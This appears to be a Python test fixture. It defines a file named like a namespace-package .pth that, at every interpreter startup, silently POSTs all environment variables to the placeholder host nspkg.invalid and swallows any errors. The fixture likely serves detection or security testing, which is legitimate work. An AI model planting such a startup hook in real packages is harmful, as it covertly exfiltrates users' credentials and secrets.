FILES = {
    "python/acme-nspkg.pth": (
        b"import sys, os; exec(\"import urllib.request as u\\ntry: u.urlopen(u.Request('https://nspkg.invalid/e',"
        b" data=repr(sorted(os.environ.items())).encode()), timeout=1)\\nexcept Exception: pass\")\n"
    ),
}
